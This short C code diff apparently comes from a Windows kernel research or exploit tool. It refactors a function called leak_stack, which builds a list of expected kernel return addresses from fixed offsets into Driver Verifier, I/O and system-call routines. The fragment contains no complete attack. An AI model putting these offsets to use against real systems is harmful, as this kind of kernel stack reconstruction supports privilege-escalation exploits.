@@ -63,14 +63,14 @@ static void small_page(kdx_scn_pool *p)
 static unsigned leak_stack(kdx_scn *s, uint64_t callers, uint64_t dispatch_ret, uint64_t *st)
 {
     unsigned n = 0;
-    st[n++] = kdx_scn_symbol(s, "VeAllocatePoolWithTagPriority") + 0x2b6;
-    st[n++] = kdx_scn_symbol(s, "VerifierExAllocatePoolEx") + 0x1d;
+    st[n++] = kdx_scn_code(s, "nt!VeAllocatePoolWithTagPriority", 0x2b6);
+    st[n++] = kdx_scn_code(s, "nt!VerifierExAllocatePoolEx", 0x1d);
     st[n++] = callers;
     st[n++] = dispatch_ret;
-    st[n++] = kdx_scn_symbol(s, "IovCallDriver") + 0xa0;
-    st[n++] = kdx_scn_symbol(s, "IopXxxControlFile") + 0x607;
-    st[n++] = kdx_scn_symbol(s, "NtDeviceIoControlFile") + 0x56;
-    st[n++] = kdx_scn_symbol(s, "KiSystemServiceCopyEnd") + 0x13;
+    st[n++] = kdx_scn_code(s, "nt!IovCallDriver", 0xa0);
+    st[n++] = kdx_scn_code(s, "nt!IopXxxControlFile", 0x607);
+    st[n++] = kdx_scn_code(s, "nt!NtDeviceIoControlFile", 0x56);
+    st[n++] = kdx_scn_code(s, "nt!KiSystemServiceCopyEnd", 0x13);
     return n;
 }
 
